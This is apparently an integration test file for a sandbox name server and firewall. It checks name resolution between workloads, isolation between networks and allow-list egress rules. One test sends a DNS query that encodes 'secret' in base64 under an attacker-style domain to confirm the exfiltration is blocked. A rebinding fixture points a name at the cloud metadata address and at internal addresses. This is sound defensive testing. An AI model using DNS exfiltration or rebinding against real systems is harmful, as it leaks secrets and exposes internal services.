// Names and the firewall together: what a workload may ask for, and what it may reach when it has asked.

import assert from 'node:assert/strict';
import { after, afterEach, before, describe, it } from 'node:test';
import { run } from '../../src/host/index.ts';
import { NameServer } from '../../src/network/names/index.ts';
import { a, startUpstream, type TestUpstream, TYPES } from '../fixtures/dns.ts';
import { FirewallLab, NETWORK, OTHER, workloadOf } from '../fixtures/firewall-lab.ts';
import type { Host } from '../fixtures/network-lab.ts';

const PUBLIC = '93.184.216.34';
const OTHER_PUBLIC = '93.184.216.35';
const METADATA = '169.254.169.254';
const [web, db, far] = [workloadOf('web', 2), workloadOf('db', 3), workloadOf('far', 4, { network: OTHER })];
const OUTSIDE: Readonly<Record<string, readonly string[]>> = {
  'pypi.example': [PUBLIC],
  'www.rebind.example': [OTHER_PUBLIC, METADATA, '10.208.0.3', '127.0.0.1'],
};

let lab: FirewallLab;
let server: NameServer;
let upstream: TestUpstream;
let webHost: Host;
let farHost: Host;
let port: number;
const cleanUps: (() => void)[] = [];

before(async () => {
  lab = await FirewallLab.open();
  [webHost, farHost] = await Promise.all([lab.start(web), lab.start(far), lab.start(db)]);
  const outside = await lab.openOutside([PUBLIC, OTHER_PUBLIC, METADATA].map((address) => `${address}/32`));
  outside.run('ip', 'route', 'add', 'default', 'via', '198.51.100.1');
  await run('ip', ['route', 'add', 'default', 'via', '198.51.100.2']);
  upstream = await startUpstream({ after: (done) => void cleanUps.push(done as () => void) }, (question) => ({
    records: question.type === TYPES.A ? (OUTSIDE[question.name] ?? []).map((address) => a(address)) : [],
  }));
  server = new NameServer({
    source: {
      addressesOf: (_, name) =>
        [web, db].find((workload) => workload.name === name)?.endpoints.flatMap(({ addresses }) => addresses),
      namesOf: () => undefined,
    },
    upstreams: () => [upstream],
    forwards: (query) => lab.firewall.forwards(query),
    admit: (query, addresses) => lab.firewall.admit(query, addresses),
  });
  port = await server.listen(NETWORK.id, '10.208.0.1/20');
  await lab.firewall.setNetwork(withNames(false));
});

afterEach(async () => {
  await lab.firewall.setWorkload(web);
  upstream.asked.length = 0;
});

after(async () => {
  await server.close();
  for (const cleanUp of cleanUps) cleanUp();
  await lab.close();
});

const withNames = (internal: boolean) => ({ ...NETWORK, internal, namePorts: { '10.208.0.1': port } });

/** What busybox in a workload finds, in order of their digits; its words when it finds nothing. */
async function lookUp(host: Host, name: string): Promise<readonly string[] | string> {
  const command = ['busybox', 'nslookup', name, '10.208.0.1'];
  // Not by Host.run, which would stand in the way of the server in this process.
  const found = run('nsenter', ['--target', `${host.pid}`, '--net', ...command]);
  const text = await found.then(
    ({ stdout }) => stdout,
    (error: Error) => error.message,
  );
  const addresses = [...text.matchAll(/^Address: (\S+)$/gm)].map((match) => match[1] ?? '');
  return addresses.length > 0 ? addresses.sort() : text;
}

describe('a workload', () => {
  it('finds others of its network by name at port 53 of the gateway, and reaches them', async () => {
    assert.deepEqual(await lookUp(webHost, 'db'), ['10.208.0.3', 'fd00:d0::3']);
    assert.equal(await webHost.ask('10.208.0.3', 80), 'as 10.208.0.2');
  });

  it('finds what is outside by the resolver of the host', async () => {
    assert.deepEqual(await lookUp(webHost, 'pypi.example'), [PUBLIC]);
    assert.equal(await webHost.ask(PUBLIC, 80), 'as 198.51.100.1');
  });

  it('is not told the names of a network that it is not in', async () => {
    assert.match(String(await lookUp(farHost, 'db')), /refused|timed out/);
    assert.equal(await farHost.askUdp('10.208.0.1', port, 400), 'silence');
  });
});

describe('a workload with a list of what it may reach', () => {
  it('reaches a name of the list when it has asked for it', async () => {
    await lab.obey(web, 'allow to pypi.example:80/tcp; deny to any');
    assert.equal(await webHost.ask(PUBLIC, 80), 'refused');
    assert.deepEqual(await lookUp(webHost, 'pypi.example'), [PUBLIC]);
    assert.equal(await webHost.ask(PUBLIC, 80), 'as 198.51.100.1');
    assert.equal(await webHost.ask(OTHER_PUBLIC, 80), 'refused');
  });

  it('cannot carry data out in questions for other names', async () => {
    await lab.obey(web, 'allow to pypi.example:80/tcp; deny to any');
    assert.match(String(await lookUp(webHost, 'c2VjcmV0.evil.example')), /NXDOMAIN/);
    assert.deepEqual(upstream.asked, []);
    assert.deepEqual(await lookUp(webHost, 'db'), ['10.208.0.3', 'fd00:d0::3']);
  });

  it('is not led inside by who answers for a name of the list', async () => {
    await lab.obey(web, 'allow to *.rebind.example; deny to any');
    assert.deepEqual(await lookUp(webHost, 'www.rebind.example'), [OTHER_PUBLIC]);
    assert.equal(await webHost.ask(OTHER_PUBLIC, 80), 'as 198.51.100.1');
    for (const address of [METADATA, '10.208.0.3']) assert.equal(await webHost.ask(address, 80), 'refused');
  });
});

describe('an internal network', () => {
  it('has names of its own, and asks nothing outside', async () => {
    await lab.firewall.setNetwork(withNames(true));
    assert.deepEqual(await lookUp(webHost, 'db'), ['10.208.0.3', 'fd00:d0::3']);
    assert.match(String(await lookUp(webHost, 'pypi.example')), /NXDOMAIN/);
    assert.deepEqual(upstream.asked, []);
    await lab.firewall.setNetwork(withNames(false));
  });
});
